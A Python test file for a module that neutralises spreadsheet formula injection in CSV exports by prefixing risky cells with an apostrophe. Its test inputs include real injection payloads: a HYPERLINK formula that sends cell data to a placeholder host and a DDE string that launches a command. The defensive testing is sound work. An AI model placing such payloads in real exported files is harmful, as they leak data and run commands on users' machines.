"""What a spreadsheet would run is marked as text, and reading it back gives the same text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from classification.reporting.csv_cells import guarded, guarded_names, is_formula, unguarded

FORMULAS = [
    '=HYPERLINK("http://x/?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1",
    "\ufeff=1", "\u200b=1", "\xa0=1", "\u3000=1", '"=1', "'=1", "''=1", "“=1", "＝1", "＋1", "－1", "＠x", "﹦1",
    "\x00=1",
    "=", "-5", "' \ufeff＝1",
]  # fmt: skip
TEXTS = ["", " ", "a=1", "1+1", "'quoted' word", '"a" - b', "5", "0.5", "好=1", "e@mail", "—dash", "· dot", "''", "'"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_gets_an_apostrophe_and_is_read_back(text):
    assert guarded(text) == "'" + text and unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", TEXTS)
def test_other_text_stays_as_it_is(text):
    assert guarded(text) == text and unguarded(text) == text


@given(st.text(alphabet=st.sampled_from("'\"=+-@ \t\r\n\ufeff＝ax1"), max_size=6))
def test_every_text_is_read_back(text):
    assert (
        unguarded(guarded(text)) == text
        and (not guarded(text).startswith("="))
        and is_formula(guarded(text)) == (is_formula(text))
    )


def test_every_text_survives_the_file(tmp_path):
    handle = io.StringIO(newline="")
    csv.writer(handle).writerows([guarded(text)] for text in [*FORMULAS, *TEXTS])
    handle.seek(0)
    assert [unguarded(row[0]) for row in csv.reader(handle) if row] == [*FORMULAS, *TEXTS]


def test_labels_that_are_numbers_stay_numbers():
    names = ["-1", "+2.5", "-1e-05", ".5", "1", "-1+1", "=1", "-a", "−1"]
    assert guarded_names(names) == ["-1", "+2.5", "-1e-05", ".5", "1", "'-1+1", "'=1", "'-a", "−1"]
